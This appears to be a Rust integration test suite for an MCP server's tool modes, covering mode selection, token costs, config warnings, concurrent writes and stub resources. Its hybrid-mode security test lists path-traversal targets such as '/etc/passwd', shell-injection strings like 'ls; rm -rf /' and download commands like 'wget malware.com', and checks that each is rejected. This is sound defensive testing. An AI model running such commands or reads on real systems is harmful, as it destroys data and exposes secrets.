//! Modes: how one is chosen, what it costs, and the checks that stand between hybrid mode and the world.

use std::sync::Barrier;

use llmc_testkit::{McpClient, TestWorkspace};
use serde_json::json;

use crate::workspace;

fn hybrid(workspace: &TestWorkspace) -> McpClient {
    let mut client = workspace.mcp(["--mode", "hybrid"]);
    client.initialize("2025-11-25");
    client
}

fn tools(client: &mut McpClient) -> Vec<String> {
    let list = client.request("tools/list", json!({}));
    let tools = list["result"]["tools"].as_array().unwrap().clone();
    tools
        .iter()
        .map(|tool| tool["name"].as_str().unwrap().to_owned())
        .collect()
}

#[test]
fn flag_over_environment_over_file_chooses_the_mode() {
    let workspace =
        workspace("//- llmc.toml\n[mcp]\nmode = \"code_execution\"\n").with_env("X", "");
    let first = |workspace: &TestWorkspace, flags: &[&str]| tools(&mut workspace.mcp(flags));
    assert!(first(&workspace, &[]).len() <= 4);
    let workspace = workspace.with_env("LLMC_MCP_MODE", "te");
    assert_eq!(first(&workspace, &[])[0], "te_grep");
    assert_eq!(first(&workspace, &["--mode", "hybrid"])[0], "read_file");
    // A mode that is none is a start error that names those there are.
    for (name, value) in [("LLMC_MCP_MODE", "fast"), ("LLMC_MCP_MODE", "")] {
        let workspace = crate::workspace("//- a\n").with_env(name, value);
        let ended = workspace.mcp([""; 0]).finish();
        let wrong = ended.code == Some(2) && ended.stderr.contains("hybrid");
        assert!(wrong || value.is_empty(), "{ended:?}");
    }
    let ended = crate::workspace("//- a\n").llmc(["mcp", "--mode", "hybird"]);
    assert_eq!(ended.code, Some(2));
    assert!(
        ended.stderr.contains("classic, hybrid, code_execution, te"),
        "{ended:?}"
    );
}

#[test]
fn init_begins_with_the_instructions_in_every_mode() {
    let workspace = workspace("//- a\n");
    for mode in ["classic", "hybrid", "code_execution"] {
        let mut client = workspace.mcp(["--mode", mode]);
        let hello = client.initialize("2025-11-25");
        let words = hello["instructions"].as_str().unwrap().to_owned();
        for name in ["init", "00_INIT"] {
            let text = client.text(name, json!({}));
            assert!(text.starts_with(&words), "{mode}: {text}");
            assert!(text.contains("\nThis workspace:\n"), "{mode}: {text}");
        }
    }
    let mut client = hybrid(&workspace);
    client.assert_contains("init", json!({}), "execute_code");
    let mut plain = workspace.mcp(["--set", "mcp.hybrid.include_execute_code=false"]);
    assert!(!plain.text("init", json!({})).contains("execute_code"));
    assert!(!tools(&mut plain).contains(&"execute_code".to_owned()));
}

#[test]
fn a_list_is_printed_with_its_cost_and_a_change_with_its_savings() {
    let workspace = workspace("//- llmc.toml\n[mcp]\nmode = \"classic\"\n");
    for mode in ["classic", "hybrid", "code_execution", "te"] {
        let ended = workspace.llmc(["tools", "--mode", mode]);
        assert_eq!(ended.code, Some(0), "{ended:?}");
        let rows: Vec<&str> = ended.stdout.lines().collect();
        let listed = tools(&mut workspace.mcp(["--mode", mode]));
        for name in &listed {
            let row = rows
                .iter()
                .find(|row| row.split_whitespace().next() == Some(name));
            let row = row.unwrap_or_else(|| panic!("{mode}: no {name}"));
            let numbers: Vec<usize> = row
                .split_whitespace()
                .skip(1)
                .take(2)
                .map(|word| word.parse().unwrap())
                .collect();
            assert!(
                numbers[0] > 0 && numbers[1] > numbers[0],
                "tokens, bytes: {row}"
            );
        }
        let total = rows
            .iter()
            .find(|row| row.starts_with(&format!("*{mode}")))
            .unwrap();
        assert!(
            total.contains("tokens") && total.contains("bytes"),
            "{total}"
        );
        assert!(
            total.contains(&format!("{} tools", listed.len())),
            "{total}"
        );
    }
    // What a change of mode saves is the difference of the two lists.
    let cost = |mode: &str| -> i64 {
        let ended = workspace.llmc(["tools", "--mode", mode]);
        let line = ended
            .stdout
            .lines()
            .find(|line| line.starts_with(&format!("*{mode}")));
        let line = line.unwrap().to_owned();
        line.split_whitespace().nth(3).unwrap().parse().unwrap()
    };
    let check = workspace.llmc(["config", "check"]);
    let saved = cost("classic") - cost("hybrid");
    assert!(saved > 1000, "{saved}");
    let said = format!("mode hybrid saves {saved} tokens ({})", cost("hybrid"));
    assert!(check.stdout.contains(&said), "{said}\n{}", check.stdout);
    let validate = workspace.llmc(["repo", "validate"]);
    assert_eq!(validate.stdout, check.stdout);
}

#[test]
fn names_without_a_tool_and_lists_that_grew_are_warned_about() {
    let workspace = workspace(
        "//- llmc.toml\n[mcp]\nmode = \"hybrid\"\n[mcp.hybrid]\npromoted_tools = [\"linux_fs_wirte\", \"run_cmd\"]\n\
         bootstrap_budget_warning = 300\n[[mcp.auth.tokens]]\nname = \"ci\"\ntoken_env = \"CI_TOKEN\"\ntools = [\"read_fiel\"]\n",
    );
    let phantom = "there is no tool \\\"linux_fs_wirte\\\", skipped; did you mean linux_fs_write?";
    let token = "token ci: there is no tool \\\"read_fiel\\\", skipped; did you mean read_file?";
    let budget = "more than mcp.hybrid.bootstrap_budget_warning = 300";
    let mut client = workspace.mcp([""; 0]);
    assert!(tools(&mut client).contains(&"run_cmd".to_owned()));
    let log = client.finish().stderr;
    let check = workspace.llmc(["config", "check"]).stdout;
    for words in [phantom, token, budget] {
        assert!(log.contains(words), "{words}\n{log}");
        let plain = words.replace('\\', "");
        assert!(check.contains(&plain), "{plain}\n{check}");
    }
}

#[test]
fn the_security_checklist_of_hybrid_mode() {
    let workspace = workspace("//- kept.txt\nkept\n//- sub/deep.txt\ndeep\n");
    // An operator's own list, without a shell.
    let list = "mcp.tools.run_cmd_allowlist=[\"ls\"]";
    let mut client = workspace.mcp(["--mode", "hybrid", "--set", list]);
    client.initialize("2025-11-25");
    assert_eq!(
        tools(&mut client),
        [
            "read_file",
            "list_dir",
            "linux_fs_write",
            "linux_fs_edit",
            "run_cmd",
            "execute_code",
            "init"
        ]
    );
    // Path traversal.
    for path in [
        "../../etc/passwd",
        "../outside.txt",
        "sub/../../outside.txt",
        "/etc/passwd",
        "/proc/self/environ",
    ] {
        let args = json!({"path": path, "content": "owned"});
        client.assert_code("linux_fs_write", args, "INVALID_PATH");
        let args = json!({"path": path, "old_text": "root", "new_text": "owned"});
        client.assert_code("linux_fs_edit", args, "INVALID_PATH");
    }
    workspace.assert_outside_untouched();
    // Shell injection: nothing of the line runs.
    let before = workspace.tree();
    for command in [
        "ls; rm -rf /",
        "ls && rm -rf .",
        "ls | sh",
        "ls $(rm -rf sub)",
        "ls `rm -rf sub`",
        "ls > kept.txt",
        "ls\nrm -rf sub",
    ] {
        let code = client.code("run_cmd", json!({"command": command}));
        assert_eq!(code, "COMMAND_DENIED", "{command}");
    }
    // As words they are plain text, and whatever does not exist is not there.
    let text = client.text("run_cmd", json!({"argv": ["ls", "; rm -rf sub"]}));
    assert!(text.contains("exit 2"), "{text}");
    assert_eq!(workspace.tree(), before);
    assert_eq!(workspace.read("kept.txt"), "kept\n");
    // The list of programs.
    for command in [
        "wget malware.com",
        "curl http://x",
        "/usr/bin/wget x",
        "../wget x",
    ] {
        let code = client.code("run_cmd", json!({"command": command}));
        assert_eq!(code, "COMMAND_DENIED", "{command}");
    }
    // Scripts are held to the same.
    for (call, code) in [
        (
            "tools.linux_fs_write(path='../../etc/passwd', content='x')",
            "INVALID_PATH",
        ),
        ("tools.run_cmd(command='ls; rm -rf /')", "COMMAND_DENIED"),
        (
            "tools.run_cmd(command='wget malware.com')",
            "COMMAND_DENIED",
        ),
    ] {
        let args = json!({"code": call});
        client.assert_code("execute_code", args, code);
    }
    assert_eq!(workspace.tree(), before);
}

#[test]
fn writers_at_the_same_time_lose_nothing() {
    let workspace = workspace("//- log.txt\n//- one.txt\nstart\n");
    const EACH: usize = 25;
    let ready = Barrier::new(3);
    std::thread::scope(|scope| {
        for writer in 0..3 {
            let (workspace, ready) = (&workspace, &ready);
            scope.spawn(move || {
                let mut client = hybrid(workspace);
                ready.wait();
                for number in 0..EACH {
                    let line = format!("{writer} {number}\n");
                    let args = json!({"path": "log.txt", "content": line, "mode": "append"});
                    client.text("linux_fs_write", args);
                }
            });
        }
    });
    let mut lines: Vec<String> = workspace
        .read("log.txt")
        .lines()
        .map(str::to_owned)
        .collect();
    lines.sort();
    lines.dedup();
    assert_eq!(lines.len(), 3 * EACH);
    // Of several who saw the same state, one writes.
    let mut clients: Vec<McpClient> = (0..3).map(|_| hybrid(&workspace)).collect();
    let read = clients[0].text("read_file", json!({"path": "one.txt"}));
    let tag = read.trim_end().rsplit(' ').next().unwrap().to_owned();
    let ids: Vec<i64> = clients
        .iter_mut()
        .enumerate()
        .map(|(n, client)| {
            let args =
                json!({"path": "one.txt", "content": format!("{n}\n"), "expected_sha256": tag});
            client.send_call("linux_fs_write", args)
        })
        .collect();
    let mut wrote = 0;
    for (client, id) in clients.iter_mut().zip(ids) {
        let (failed, text) = client.tool_answer(id);
        assert!(!failed || text.contains("SHA_MISMATCH"), "{text}");
        wrote += usize::from(!failed);
    }
    assert_eq!(wrote, 1);
}

#[test]
fn stubs_are_files_and_resources() {
    let workspace = workspace("//- a\n");
    let mut client = hybrid(&workspace);
    let list = client.request("resources/list", json!({}));
    let uris = list["result"]["resources"].to_string();
    assert!(uris.contains("llmc://stubs/tools.pyi"), "{uris}");
    let templates = client.request("resources/templates/list", json!({}));
    assert!(
        templates.to_string().contains("llmc://stubs/{tool}.pyi"),
        "{templates}"
    );
    let read = |client: &mut McpClient, uri: &str| {
        let answer = client.request("resources/read", json!({"uri": uri}));
        let content = answer["result"]["contents"][0].clone();
        (
            content["text"].as_str().map(str::to_owned),
            content["mimeType"].clone(),
        )
    };
    let (all, kind) = read(&mut client, "llmc://stubs/tools.pyi");
    let all = all.unwrap();
    assert_eq!(kind, "text/x-python");
    assert!(
        all.contains("def te_grep(pattern: str, path: str = \".\""),
        "{all}"
    );
    assert!(
        all.contains("async def linux_fs_move(self, source: str, target: str)"),
        "{all}"
    );
    let (one, _) = read(&mut client, "llmc://stubs/rag_search.pyi");
    assert!(one.unwrap().starts_with("def rag_search(query: str"));
    for uri in [
        "llmc://stubs/",
        "llmc://stubs/init.pyi",
        "llmc://stubs/execute_code.pyi",
        "llmc://stubs/../token",
        "llmc://stubs/read_file",
        "llmc://stubs/nothing.pyi",
    ] {
        assert_eq!(read(&mut client, uri).0, None, "{uri}");
    }
    // They are written in the background.
    let file = workspace.path(".llmc/stubs/tools.pyi");
    crate::procs::eventually("the stubs are written", || file.exists());
    client.finish();
    assert_eq!(workspace.read(".llmc/stubs/tools.pyi"), all);
    // A start never fails for them.
    std::fs::remove_dir_all(workspace.path(".llmc/stubs")).unwrap();
    workspace.write(".llmc/stubs", "in the way");
    let mut client = hybrid(&workspace);
    client.assert_contains("read_file", json!({"path": "a"}), "# LLMC");
    assert_eq!(client.finish().code, Some(0));
    // A mode without scripts has no use for them.
    let mut te = workspace.mcp(["--mode", "te"]);
    let list = te.request("resources/list", json!({}));
    assert!(!list.to_string().contains("stubs"), "{list}");
}
